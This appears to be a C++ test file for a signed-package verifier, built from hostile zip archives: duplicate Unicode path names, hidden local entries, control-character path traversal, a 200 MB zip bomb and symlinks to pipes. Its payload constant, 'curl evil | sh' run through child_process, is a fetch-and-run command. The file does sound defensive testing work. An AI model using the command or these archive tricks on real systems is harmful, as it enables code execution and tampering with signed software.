@@ -1,0 +1,474 @@
+// Package archives that another reader would read differently from the extractor, archives
+// that would fill the disk or stay behind in /tmp, and the archives real zip tools make.
+//
+// Each hostile archive starts from a validly signed package and changes its bytes; none may
+// verify, none may leave anything in /tmp, and the forms that zip tools write must verify.
+
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <cerrno>
+#include <functional>
+#include <set>
+#include <stdexcept>
+#include <string>
+#include <vector>
+
+#include <boost/filesystem.hpp>
+#include <gtest/gtest.h>
+
+#include "KVBSignLib.h"
+#include "child_process.h"
+#include "cli_runner.h"
+#include "package_builder.h"
+#include "private_tmp.h"
+#include "test_pki.h"
+#include "zip_writer.h"
+
+namespace {
+
+namespace fs = boost::filesystem;
+using kvtest::PackageBuilder;
+using kvtest::SignedPackage;
+using kvtest::ZipEntrySpec;
+using kvtest::ZipSpec;
+
+const char kEvil[] = "require('child_process').exec('curl evil | sh');\n";
+const char kUnzipFailed[] = "Error - Failed to unzip KVB. Verification failed.";
+const std::uint64_t kMegabyte = 1024 * 1024;
+
+PackageBuilder basePackage() {
+    PackageBuilder b;
+    b.addFile("index.html", "<html><body>hello</body></html>\n")
+        .addFile("lib/app.js", "console.log('app');\n")
+        .addFile("README.txt", "A package.\n");
+    return b;
+}
+
+// The entries of a package directory as a zip tool stores them: "mimetype" first and
+// stored, then every directory, file and link in path order.
+std::vector<ZipEntrySpec> entriesOf(const std::string& dir, bool withDirectories = true) {
+    std::vector<std::string> paths;
+    for (fs::recursive_directory_iterator it(dir), end; it != end; ++it)
+        paths.push_back(it->path().generic_string().substr(dir.size() + 1));
+    std::sort(paths.begin(), paths.end());
+    std::stable_partition(paths.begin(), paths.end(), [](const std::string& p) { return p == "mimetype"; });
+    std::vector<ZipEntrySpec> entries;
+    for (const std::string& relative : paths) {
+        const fs::path full = fs::path(dir) / relative;
+        ZipEntrySpec e;
+        e.name = relative;
+        const fs::file_status own = fs::symlink_status(full);
+        if (fs::is_symlink(own)) {
+            e.kind = ZipEntrySpec::Kind::Symlink;
+            e.data = fs::read_symlink(full).string();
+        } else if (fs::is_directory(own)) {
+            if (!withDirectories) continue;
+            e.kind = ZipEntrySpec::Kind::Directory;
+            e.name += "/";
+        } else {
+            e.data = kvtest::readFile(full.string());
+            if (relative == "mimetype") e.method = 0;
+        }
+        entries.push_back(e);
+    }
+    return entries;
+}
+
+ZipEntrySpec file(const std::string& name, const std::string& data) {
+    ZipEntrySpec e;
+    e.name = name;
+    e.data = data;
+    return e;
+}
+
+ZipEntrySpec& entry(ZipSpec& spec, const std::string& name) {
+    for (ZipEntrySpec& e : spec.entries)
+        if (e.name == name) return e;
+    throw std::runtime_error("no entry " + name);
+}
+
+struct Workspace {
+    kvtest::ScratchDir scratch;
+    std::string pkgZip() const { return scratch.file("pkg.kvb"); }
+    // The validly signed base package (or another), built beside the archive.
+    ZipSpec signedSpec(const PackageBuilder& b = basePackage(), bool withDirectories = true) {
+        const SignedPackage p = b.build(scratch.file("src"));
+        ZipSpec spec;
+        spec.entries = entriesOf(p.dir, withDirectories);
+        return spec;
+    }
+    std::string write(const ZipSpec& spec) {
+        kvtest::writeZipSpec(pkgZip(), spec);
+        return pkgZip();
+    }
+};
+
+struct Suite {
+    kvtest::ScratchDir dir;
+    std::string roots = dir.file("roots.pem");
+    Suite() { kvtest::writePemBundle(roots, {kvtest::pki().root.cert.get()}); }
+    kvtest::EnvList env() const {
+        return {{"SSL_CERT_FILE", roots}, {"KVBSIGN_CRL_CACHE", dir.file("no-crl-cache.db")}, {"TZ", "UTC0"}};
+    }
+};
+Suite& suite() {
+    static Suite s;
+    return s;
+}
+
+struct Row {
+    const char* name;
+    std::function<std::string(Workspace&)> make;  // the path to verify; empty: the row cannot run here
+    int status;
+};
+
+// Runs every row through the built tool; checks its status, its message and that nothing is
+// left in /tmp.
+void runRows(const std::vector<Row>& rows) {
+    for (const Row& row : rows) {
+        SCOPED_TRACE(row.name);
+        Workspace w;
+        const std::string path = row.make(w);
+        if (path.empty()) {
+            std::printf("[ skipped  ] %s: the tool that makes it is missing\n", row.name);
+            continue;
+        }
+        const std::set<std::string> before = kvtest::kvbsignTempEntries();
+        const kvtest::CliResult r =
+            kvtest::runCli({"-verify", path, "-skipOnlineRevocationChecks"}, suite().env(), 120, w.scratch.path());
+        std::printf("[ row      ] %-70s want %2d got %3d\n", row.name, row.status, r.exitCode);
+        EXPECT_FALSE(r.timedOut);
+        EXPECT_EQ(r.exitCode, row.status) << r.out << r.err;
+        if (row.status == 20) {
+            EXPECT_NE(r.err.find(kUnzipFailed), std::string::npos) << r.err;
+        }
+        if (row.status == 0) {
+            EXPECT_NE(r.out.find("Signature verified successfully"), std::string::npos) << r.out;
+        }
+        for (const std::string& name : kvtest::newTempEntries(before)) ADD_FAILURE() << "left behind: /tmp/" << name;
+    }
+}
+
+// The signed files with a new index.html, and entries that hide the change from the extractor.
+std::vector<Row> secondNames() {
+    return {
+        // The extractor takes the second name and writes the new index.html where the walk
+        // leaves it out; other readers install it over the signed one.
+        {"appended signed name with an excluded second name (__MACOSX)",
+         [](Workspace& w) {
+             ZipSpec spec = w.signedSpec();
+             ZipEntrySpec e = file("index.html", kEvil);
+             e.localExtra = e.centralExtra = kvtest::unicodePathExtra("index.html", "__MACOSX/index.html");
+             spec.entries.push_back(e);
+             return w.write(spec);
+         },
+         20},
+        {"second names swap a signed file for a new one (Thumbs.db)",
+         [](Workspace& w) {
+             ZipSpec spec = w.signedSpec();
+             ZipEntrySpec& genuine = entry(spec, "index.html");
+             genuine.name = "x.html";
+             genuine.localExtra = genuine.centralExtra = kvtest::unicodePathExtra("x.html", "index.html");
+             ZipEntrySpec e = file("index.html", kEvil);
+             e.localExtra = e.centralExtra = kvtest::unicodePathExtra("index.html", "Thumbs.db");
+             spec.entries.push_back(e);
+             return w.write(spec);
+         },
+         20},
+        {"climbing header name with a harmless second name",
+         [](Workspace& w) {
+             ZipSpec spec = w.signedSpec();
+             ZipEntrySpec e = file("../index.html", kEvil);
+             e.localExtra = e.centralExtra = kvtest::unicodePathExtra("../index.html", "lib/Thumbs.db");
+             spec.entries.push_back(e);
+             return w.write(spec);
+         },
+         20},
+    };
+}
+
+std::vector<Row> hiddenEntries() {
+    std::vector<Row> rows = {
+        // Invisible to the extractor, which reads the central directory; a reader that
+        // streams from the front extracts it over the signed file.
+        {"local entry for a signed name before an unchanged central directory",
+         [](Workspace& w) {
+             ZipSpec spec = w.signedSpec();
+             spec.beforeCentral = kvtest::localEntryBytes(file("index.html", kEvil));
+             return w.write(spec);
+         },
+         20},
+        {"gap between two entries",
+         [](Workspace& w) {
+             ZipSpec spec = w.signedSpec();
+             spec.entries[2].before = std::string(64, '\0');
+             return w.write(spec);
+         },
+         20},
+        {"local CRC differs from the central record",
+         [](Workspace& w) {
+             ZipSpec spec = w.signedSpec();
+             entry(spec, "lib/app.js").localCrc = 0x12345678;
+             return w.write(spec);
+         },
+         20},
+        {"encrypted entry",
+         [](Workspace& w) {
+             ZipSpec spec = w.signedSpec();
+             entry(spec, "README.txt").extraFlags = 1;
+             return w.write(spec);
+         },
+         20},
+    };
+    // The extractor drops the control character and the climb, so the signed README.txt
+    // lands where it belongs and verifies; the stored name climbs out of any other
+    // reader's target.
+    for (const char* prefix : {"\n", "\t", "\r"}) {
+        rows.push_back({prefix[0] == '\n' ? "signed file renamed with a line feed before ../"
+                                          : prefix[0] == '\t' ? "signed file renamed with a tab before ../"
+                                                              : "signed file renamed with a carriage return before ../",
+                        [prefix](Workspace& w) {
+                            ZipSpec spec = w.signedSpec();
+                            entry(spec, "README.txt").name = std::string(prefix) + "../README.txt";
+                            return w.write(spec);
+                        },
+                        20});
+    }
+    return rows;
+}
+
+TEST(ArchiveCli, SecondNamesNeverPass) { runRows(secondNames()); }
+TEST(ArchiveCli, EntriesOnlySomeReadersSeeNeverPass) { runRows(hiddenEntries()); }
+
+// An entry that declares 1,000 bytes and inflates to 200 MB: the extraction ends at the file
+// size limit instead of filling /tmp.
+TEST(ArchiveCli, EntriesThatOutgrowTheirDeclaredSizeEndTheExtraction) {
+    runRows({
+        {"entry declaring 1,000 bytes that inflates to 200 MB",
+         [](Workspace& w) {
+             ZipSpec spec = w.signedSpec();
+             ZipEntrySpec bomb;
+             bomb.name = "media/blob.bin";
+             bomb.zeros = 200 * kMegabyte;
+             bomb.localSize = bomb.centralSize = 1000;
+             spec.entries.push_back(bomb);
+             return w.write(spec);
+         },
+         20},
+    });
+}
+
+// The archives that zip tools write, with every form the reader accepts.
+TEST(ArchiveCli, ArchivesOfCommonToolsVerify) {
+    // The tool gets its options, the archive, then every top-level name, "mimetype" first.
+    auto tool = [](const std::string& program, std::vector<std::string> options) {
+        return [program, options](Workspace& w) -> std::string {
+            if (access(program.c_str(), X_OK) != 0) return "";
+            PackageBuilder b = basePackage();
+            b.addFile("lib/caf\xc3\xa9.js", "// a UTF-8 name\n").addSymlink("lib/main.js", "app.js", true,
+                                                                              "console.log('app');\n");
+            const SignedPackage p = b.build(w.scratch.file("src"));
+            std::vector<std::string> args = options;
+            for (const char* name : {"mimetype", "META-INF", "README.txt", "index.html", "lib"}) {
+                if (args.size() == options.size()) args.push_back(w.pkgZip());
+                args.push_back(name);
+            }
+            const kvtest::CliResult r = kvtest::runProgram(program, args, {}, 60, p.dir);
+            if (r.exitCode != 0) throw std::runtime_error(program + " failed: " + r.err);
+            return w.pkgZip();
+        };
+    };
+    auto written = [](std::function<void(ZipSpec&)> edit, bool withDirectories = true) {
+        return [edit, withDirectories](Workspace& w) {
+            PackageBuilder b = basePackage();
+            b.addFile("lib/caf\xc3\xa9.js", "// a UTF-8 name\n").addSymlink("lib/main.js", "app.js", true,
+                                                                              "console.log('app');\n");
+            ZipSpec spec = w.signedSpec(b, withDirectories);
+            edit(spec);
+            return w.write(spec);
+        };
+    };
+    runRows({
+        {"zip tool", tool("/usr/bin/zip", {"-q", "-r", "-y", "-X"}), 0},
+        {"zip tool with zip64 fields", tool("/usr/bin/zip", {"-q", "-r", "-y", "-fz"}), 0},
+        {"bsdtar (data descriptors)", tool("/usr/bin/bsdtar", {"--format", "zip", "-cf"}), 0},
+        {"descriptors with signature",
+         written([](ZipSpec& s) {
+             for (ZipEntrySpec& e : s.entries) e.dataDescriptor = true;
+         }),
+         0},
+        {"descriptors without signature, all stored",
+         written([](ZipSpec& s) {
+             for (ZipEntrySpec& e : s.entries) {
+                 e.dataDescriptor = true;
+                 e.descriptorSignature = false;
+                 e.method = 0;
+             }
+         }),
+         0},
+        {"no directory entries", written([](ZipSpec&) {}, false), 0},
+        {"UTF-8 name with its Unicode path field",
+         written([](ZipSpec& s) {
+             ZipEntrySpec& e = entry(s, "lib/caf\xc3\xa9.js");
+             e.localExtra = e.centralExtra = kvtest::unicodePathExtra(e.name, e.name);
+         }),
+         0},
+        {"zip64 fields and end record",
+         written([](ZipSpec& s) {
+             for (ZipEntrySpec& e : s.entries) e.zip64 = true;
+             s.zip64End = true;
+         }),
+         0},
+        {"archive comment", written([](ZipSpec& s) { s.comment = "PK\x05\x06 is not the end"; }), 0},
+        {"70,000 directory entries (zip64 end record)",
+         written([](ZipSpec& s) {
+             for (int i = 0; i < 70000; ++i) {
+                 ZipEntrySpec d;
+                 d.kind = ZipEntrySpec::Kind::Directory;
+                 d.name = "assets/" + std::to_string(i) + "/";
+                 s.entries.push_back(d);
+             }
+         }),
+         0},
+    });
+}
+
+// --- named pipes outside the package ---
+
+// A writer blocked in open() until some reader opens the pipe.
+class BlockedWriter {
+public:
+    explicit BlockedWriter(const std::string& fifo) {
+        if (mkfifo(fifo.c_str(), 0666) != 0) throw std::runtime_error("mkfifo failed");
+        pid_ = fork();
+        if (pid_ == 0) {
+            const int fd = open(fifo.c_str(), O_WRONLY);
+            _exit(fd >= 0 ? 0 : 1);
+        }
+    }
+    ~BlockedWriter() {
+        kill(pid_, SIGKILL);
+        int status = 0;
+        waitpid(pid_, &status, 0);
+    }
+    bool stillBlocked() const {
+        int status = 0;
+        return waitpid(pid_, &status, WNOHANG) == 0;
+    }
+
+private:
+    pid_t pid_ = -1;
+};
+
+TEST(ArchiveCli, PipesOutsideThePackageAreNeverOpened) {
+    Workspace w;
+    const std::string fifo = w.scratch.file("pipe");
+    BlockedWriter writer(fifo);
+    ZipSpec spec = w.signedSpec();
+    ZipEntrySpec& document = entry(spec, "META-INF/signatures.xml");
+    document.kind = ZipEntrySpec::Kind::Symlink;
+    document.data = fifo;
+    const std::string zip = w.write(spec);
+    const std::set<std::string> before = kvtest::kvbsignTempEntries();
+    const kvtest::CliResult r =
+        kvtest::runCli({"-verify", zip, "-skipOnlineRevocationChecks"}, suite().env(), 30, w.scratch.path());
+    EXPECT_EQ(r.exitCode, 31) << r.err;
+    EXPECT_TRUE(writer.stillBlocked()) << "the pipe was opened";
+    for (const std::string& name : kvtest::newTempEntries(before)) ADD_FAILURE() << "left behind: /tmp/" << name;
+}
+
+// --- runs that need another user or another /tmp: in a child of this process ---
+
+// A copy of the archive in a directory every user can read, removed at the end.
+class SharedCopy {
+public:
+    explicit SharedCopy(const std::string& zip) {
+        char tmpl[] = "/tmp/kvbshared-XXXXXX";
+        if (mkdtemp(tmpl) == nullptr) throw std::runtime_error("mkdtemp failed");
+        dir_ = tmpl;
+        chmod(dir_.c_str(), 0755);
+        path_ = dir_ + "/pkg.kvb";
+        kvtest::writeFile(path_, kvtest::readFile(zip));
+        chmod(path_.c_str(), 0644);
+    }
+    ~SharedCopy() {
+        boost::system::error_code ec;
+        fs::remove_all(dir_, ec);
+    }
+    const std::string& path() const { return path_; }
+
+private:
+    std::string dir_;
+    std::string path_;
+};
+
+// Directories stored read-only or closed: whoever runs the tool, the extracted tree is
+// judged and then removed completely.
+TEST(ArchiveCli, ClosedDirectoriesNeitherHideFilesNorStayBehind) {
+    if (!kvtest::canDropPrivileges()) GTEST_SKIP() << "needs root to run the tool as another user";
+    struct Case {
+        const char* name;
+        std::vector<std::pair<std::string, std::uint32_t>> modes;
+        int status;
+    };
+    const Case cases[] = {
+        {"lib/ stored 0555", {{"lib/", 040555}}, 0},
+        {"lib/ stored 0000", {{"lib/", 040000}}, 0},
+        {"META-INF/ stored 0500, lib/ 0000", {{"META-INF/", 040500}, {"lib/", 040000}}, 0},
+        // The control: the same closed directory with a changed file below it still fails.
+        {"lib/ stored 0000 over a changed file", {{"lib/", 040000}}, 50},
+    };
+    for (const Case& c : cases) {
+        SCOPED_TRACE(c.name);
+        Workspace w;
+        ZipSpec spec = w.signedSpec();
+        for (const auto& m : c.modes) entry(spec, m.first).unixMode = m.second;
+        if (c.status == 50) entry(spec, "lib/app.js").data = kEvil;
+        const SharedCopy copy(w.write(spec));
+        const std::set<std::string> before = kvtest::kvbsignTempEntries();
+        const int status = kvtest::runInChild([&] {
+            if (chdir("/") != 0 || !kvtest::becomeNobody()) return 99;
+            return KVBSign_verify(copy.path().c_str(), nullptr, 0, nullptr, true);
+        });
+        EXPECT_EQ(status, c.status);
+        for (const std::string& name : kvtest::newTempEntries(before)) {
+            ADD_FAILURE() << "left behind: /tmp/" << name;
+            boost::system::error_code ec;
+            fs::remove_all(fs::path("/tmp") / name, ec);
+        }
+    }
+}
+
+// Declared contents larger than the free space are refused before anything is written.
+TEST(ArchiveCli, DeclaredContentsMustFitTheTemporaryFileSystem) {
+    PackageBuilder b = basePackage();
+    b.addFile("media/blob.bin", std::string(16 * kMegabyte, '\0'));
+    Workspace w;
+    const SignedPackage p = b.build(w.scratch.file("src"));
+    p.zip(w.pkgZip());
+    const std::string zip = kvtest::readFile(w.pkgZip());
+    struct Case {
+        int megabytes;
+        int status;
+    };
+    for (const Case c : {Case{8, 20}, Case{64, 0}}) {
+        SCOPED_TRACE(c.megabytes);
+        const int status = kvtest::runInChild([&] {
+            if (!kvtest::mountSmallTmp(c.megabytes)) return 98;
+            kvtest::writeFile("/tmp/pkg.kvb", zip);
+            const int result = KVBSign_verify("/tmp/pkg.kvb", nullptr, 0, nullptr, true);
+            fs::remove("/tmp/pkg.kvb");
+            // Nothing may be left on the small file system either.
+            return fs::is_empty("/tmp") ? result : 97;
+        });
+        if (status == 98) GTEST_SKIP() << "cannot make a mount namespace";
+        EXPECT_EQ(status, c.status);
+    }
+}
+
+}  // namespace
